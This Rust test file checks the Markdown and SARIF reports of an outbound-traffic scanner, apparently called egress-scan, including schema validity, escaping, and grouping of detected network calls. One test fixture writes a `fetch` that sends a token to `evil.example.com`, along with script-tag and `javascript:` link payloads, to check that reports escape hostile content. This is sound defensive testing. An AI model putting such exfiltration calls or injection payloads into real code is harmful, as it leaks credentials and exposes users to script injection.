//! Markdown and SARIF reports over every fixture, and the via-library
//! inventory.

use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::common::{egress_scan, fixture_names, scan_json, strings};

fn scan_format(path: &str, format: &str) -> String {
    let out = egress_scan().args([path, "-f", format]).output().expect("runs");
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("UTF-8")
}

/// Parses markdown as GitHub would (tables on) and checks that every table
/// block is a table and no raw HTML comes through. Returns (tables, links).
fn check_markdown(md: &str) -> (usize, Vec<String>) {
    let mut tables = 0;
    let mut links = Vec::new();
    for event in Parser::new_ext(md, Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::Table(_)) => tables += 1,
            Event::Start(Tag::Link { dest_url, .. }) => links.push(dest_url.to_string()),
            Event::Html(h) | Event::InlineHtml(h) => panic!("raw HTML in markdown: {h}"),
            _ => {}
        }
    }
    let delimiter_rows = md.lines().filter(|l| l.starts_with("|---")).count();
    assert_eq!(tables, delimiter_rows, "a table did not parse as a table:\n{md}");
    (tables, links)
}

#[test]
fn markdown_snapshots_of_every_fixture() {
    for name in fixture_names() {
        let md = scan_format(&format!("fixtures/{name}"), "markdown");
        let report = scan_json(&[&format!("fixtures/{name}")]);
        let communications = report["communications"].as_array().unwrap().len();
        let (tables, links) = check_markdown(&md);
        assert!(tables >= communications, "{name}: {tables} tables");
        for l in &links {
            assert!(
                l.starts_with('#') || !l.contains(':'),
                "{name}: non-relative link {l}"
            );
        }
        for heading in [
            "## Contents",
            "## Summary of major security and privacy issues",
            "## SSRF and redirect handling",
            "## Local and LAN exposure",
            "```mermaid\ngraph LR",
        ] {
            assert!(md.contains(heading), "{name}: missing {heading}");
        }
        // Reads cleanly: no escapes in prose, identifiers in code spans
        // (a literal backtick on the rendered page is a failed code span).
        for noise in ["\\(", "\\)", "\\_", "&amp;", "\\`"] {
            assert!(!md.contains(noise), "{name}: `{noise}` in the raw text");
        }
        let mut html = String::new();
        pulldown_cmark::html::push_html(&mut html, Parser::new_ext(&md, Options::ENABLE_TABLES));
        let outside_code: String = html
            .split("<code>")
            .map(|s| s.split_once("</code>").map_or(s, |(_, rest)| rest))
            .collect();
        assert!(
            !outside_code.contains('`'),
            "{name}: literal backtick on the rendered page"
        );
        // Deterministic across runs and thread counts.
        let again = egress_scan()
            .args([&format!("fixtures/{name}"), "-f", "markdown", "-j", "1"])
            .output()
            .unwrap()
            .stdout;
        assert_eq!(md.as_bytes(), again.as_slice(), "{name}");
        insta::assert_snapshot!(format!("{name}_markdown"), md);
    }
}

#[test]
fn markdown_title_from_config_and_escaping_of_scanned_content() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("src/x|y")).unwrap();
    std::fs::write(
        root.join(".egress-scan.toml"),
        "[report]\ntitle = \"Audit <b>of</b> [bot](javascript:alert(1))\"\n",
    )
    .unwrap();
    std::fs::write(
        root.join("src/x|y/evil<img src=x>.ts"),
        "export async function go(token: string) {\n  await fetch(`https://evil.example.com/a|b<script>alert(1)</script>[x](javascript:y)?key=${token}`);\n  await fetch(\"http://192.168.1.20:8080/`x`|\\n\");\n}\n",
    )
    .unwrap();
    let md = scan_format(root.to_str().unwrap(), "markdown");
    assert!(md.starts_with("# Audit &lt;b&gt;of&lt;/b&gt; \\[bot\\]"), "{md}");
    let (tables, links) = check_markdown(&md);
    assert!(tables >= 3, "{md}");
    assert!(links.iter().all(|l| !l.contains("javascript")), "{links:?}");
    assert!(
        links
            .iter()
            .any(|l| l.starts_with("src/x%7Cy/evil%3Cimg%20src%3Dx%3E.ts#L2")),
        "{links:?}"
    );
    // `<` outside code spans is always an entity.
    for line in md.lines() {
        let outside_code: String = line.split('`').step_by(2).collect();
        assert!(!outside_code.contains('<'), "{line}");
    }
}

#[test]
fn sarif_columns_count_code_points_as_declared() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("leak.ts"),
        "/* ünïcödé */ fetch(`https://api.example.io/v1?token=${token}`);\n",
    )
    .unwrap();
    let sarif: serde_json::Value =
        serde_json::from_str(&scan_format(dir.path().to_str().unwrap(), "sarif")).expect("SARIF");
    let run = &sarif["runs"][0];
    assert_eq!(run["columnKind"], "unicodeCodePoints");
    let leak = run["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == "egress/token-in-url")
        .expect("token-in-url result");
    // `fetch` is the 15th code point of the line (the 19th byte).
    assert_eq!(
        leak["locations"][0]["physicalLocation"]["region"]["startColumn"],
        15
    );
}

#[test]
fn sarif_of_every_fixture_is_valid_against_the_official_schema() {
    let mut schema: serde_json::Value =
        serde_json::from_str(include_str!("data/sarif-schema-2.1.0.json")).expect("schema is JSON");
    // The official rtm.5 file has an unbalanced `]` in the `language`
    // patterns, which the meta-schema's regex format check rejects; later
    // schema revisions use this form. Our output never sets `language`.
    for def in ["run", "toolComponent"] {
        let pattern = &mut schema["definitions"][def]["properties"]["language"]["pattern"];
        assert!(pattern.is_string(), "{def}");
        *pattern = serde_json::json!("^[a-zA-Z]{2}(-[a-zA-Z]{2})?$");
    }
    let validator = jsonschema::options()
        .should_validate_formats(false)
        .build(&schema)
        .expect("schema compiles");
    for name in fixture_names() {
        let text = scan_format(&format!("fixtures/{name}"), "sarif");
        let sarif: serde_json::Value = serde_json::from_str(&text).expect("SARIF is JSON");
        let errors: Vec<String> = validator
            .iter_errors(&sarif)
            .map(|e| format!("{} at {}", e, e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{name}: {errors:#?}");
        // The validator does reject a malformed log.
        let mut bad = sarif.clone();
        bad["runs"][0]["tool"]["driver"]["rules"][0]["defaultConfiguration"]["level"] =
            serde_json::json!("fatal");
        assert!(!validator.is_valid(&bad), "{name}");

        let run = &sarif["runs"][0];
        assert_eq!(sarif["version"], "2.1.0");
        assert_eq!(run["tool"]["driver"]["name"], "egress-scan");
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        let report = scan_json(&[&format!("fixtures/{name}")]);
        let findings = report["findings"].as_array().unwrap();
        let results = run["results"].as_array().unwrap();
        assert_eq!(results.len(), findings.len(), "{name}");
        for (r, f) in results.iter().zip(findings) {
            let rule = &rules[r["ruleIndex"].as_u64().unwrap() as usize];
            assert_eq!(rule["id"], r["ruleId"]);
            assert_eq!(r["ruleId"], f["rule_id"]);
            let expected_level = match f["severity"].as_str().unwrap() {
                "critical" | "high" => "error",
                "medium" => "warning",
                _ => "note",
            };
            assert_eq!(r["level"], expected_level);
            let loc = &r["locations"][0]["physicalLocation"];
            assert_eq!(loc["artifactLocation"]["uri"], f["file"]);
            assert_eq!(loc["artifactLocation"]["uriBaseId"], "%SRCROOT%");
            assert_eq!(loc["region"]["startLine"], f["line"]);
            assert_eq!(r["partialFingerprints"]["egressScan/v1"], f["fingerprint"]);
            assert_eq!(r["suppressions"].is_array(), f["suppressed"] == true);
        }
        let token = rules.iter().find(|r| r["id"] == "egress/token-in-url").unwrap();
        assert_eq!(token["properties"]["security-severity"], "8.0");
        assert!(token["help"]["markdown"].as_str().unwrap().len() > 20);
        assert!(!token["shortDescription"]["text"].as_str().unwrap().is_empty());
    }
}

#[test]
fn sarif_suppressed_result_carries_justification() {
    let text = scan_format("fixtures/webhook-relay", "sarif");
    let sarif: serde_json::Value = serde_json::from_str(&text).unwrap();
    let suppressed: Vec<_> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["suppressions"].is_array())
        .collect();
    assert_eq!(suppressed.len(), 1);
    assert_eq!(suppressed[0]["suppressions"][0]["kind"], "inSource");
    assert!(suppressed[0]["suppressions"][0]["justification"]
        .as_str()
        .unwrap()
        .contains("VPC"));
}

#[test]
fn sdk_imports_are_communications_via_library() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("src/notify")).unwrap();
    std::fs::write(
        root.join("src/notify/slack.ts"),
        "import { WebClient } from \"@slack/web-api\";\nexport const slack = new WebClient(process.env.SLACK_TOKEN);\n",
    )
    .unwrap();
    std::fs::write(
        root.join("src/telemetry.ts"),
        "import * as Sentry from '@sentry/node';\nimport { OTLPTraceExporter } from \"@opentelemetry/exporter-trace-otlp-http\";\nimport axios from \"axios\";\nSentry.init({});\n",
    )
    .unwrap();
    let report = scan_json(&[root.to_str().unwrap()]);
    let comms = report["communications"].as_array().unwrap();
    let find = |title: &str| {
        comms
            .iter()
            .find(|c| c["title"] == title)
            .unwrap_or_else(|| panic!("no {title} in {comms:#?}"))
    };
    let slack = find("Slack");
    assert_eq!(slack["via_library"], serde_json::json!(["@slack/web-api"]));
    assert_eq!(slack["files"], serde_json::json!(["src/notify/slack.ts"]));
    assert!(slack["hosts"]
        .as_array()
        .unwrap()
        .contains(&serde_json::json!("slack.com")));
    assert_eq!(find("Sentry")["via_library"], serde_json::json!(["@sentry/node"]));
    find("OpenTelemetry collector (OTLP)");
    // A generic HTTP client is not a service.
    assert_eq!(comms.len(), 3, "{comms:#?}");
    let md = scan_format(root.to_str().unwrap(), "markdown");
    assert!(md.contains("via library `@slack/web-api`"), "{md}");
    check_markdown(&md);
}

#[test]
fn unknown_hosts_grouped_by_module() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for (m, host) in [("billing", "api.acme-one.io"), ("sync", "api.acme-two.io")] {
        std::fs::create_dir_all(root.join("src").join(m)).unwrap();
        std::fs::write(
            root.join("src").join(m).join("client.ts"),
            format!("export const r = fetch(\"https://{host}/v1\");\n"),
        )
        .unwrap();
    }
    let report = scan_json(&[root.to_str().unwrap()]);
    let titles = strings(&report, "communications", "title");
    assert_eq!(
        titles,
        vec!["Other hosts called from billing", "Other hosts called from sync"]
    );
}

#[test]
fn build_copies_of_a_module_share_its_communication() {
    // A react-native-builder-bob package: the sources and two compiled copies.
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for (folder, ext) in [("src", "ts"), ("lib/commonjs", "js"), ("lib/module", "js")] {
        std::fs::create_dir_all(root.join(folder).join("internal")).unwrap();
        std::fs::write(
            root.join(folder).join("internal").join(format!("client.{ext}")),
            "export const r = fetch(\"https://api.vendor-one.io/v1/ping\");\n",
        )
        .unwrap();
    }
    let report = scan_json(&[root.to_str().unwrap()]);
    let comms = report["communications"].as_array().unwrap();
    assert_eq!(comms.len(), 1, "{comms:#?}");
    assert_eq!(comms[0]["title"], "Other hosts called from internal");
    assert_eq!(
        comms[0]["purpose"],
        "Hosts not in the service catalog, called from code in internal"
    );
    assert_eq!(comms[0]["files"].as_array().unwrap().len(), 3);
    let md = scan_format(root.to_str().unwrap(), "markdown");
    assert!(!md.contains("module module"), "{md}");
    assert_eq!(md.matches("## 1. ").count(), 1, "{md}");
    assert!(!md.contains("## 2. "), "{md}");
}

#[test]
fn requests_to_runtime_urls_are_a_communication() {
    // Every request of the updater goes to a URL from configuration or a
    // parameter: no endpoint, yet the inventory is not empty.
    let report = scan_json(&["fixtures/ota-updater"]);
    let comms = report["communications"].as_array().unwrap();
    assert_eq!(comms.len(), 1, "{comms:#?}");
    let c = &comms[0];
    assert_eq!(c["title"], "Requests to runtime-determined URLs");
    assert_eq!(
        c["runtime_urls"],
        serde_json::json!(["{configuration.updateUrl}", "{packageUrl}"])
    );
    assert_eq!(
        c["files"],
        serde_json::json!([
            "android/app/src/main/java/com/example/ota/UpdateChecker.kt",
            "ios/Sources/Updater/UpdateService.swift"
        ])
    );
    let md = scan_format("fixtures/ota-updater", "markdown");
    assert!(
        md.contains(
            "3 outbound calls (3 to runtime-determined URLs); 0 endpoints on 0 hosts in 1 communication"
        ),
        "{md}"
    );
    assert!(md.contains("## 1. Requests to runtime-determined URLs"), "{md}");
    assert!(!md.contains("No outbound communications to draw"), "{md}");
    assert!(md.contains("((\"(runtime-determined URL)\"))"), "{md}");
}
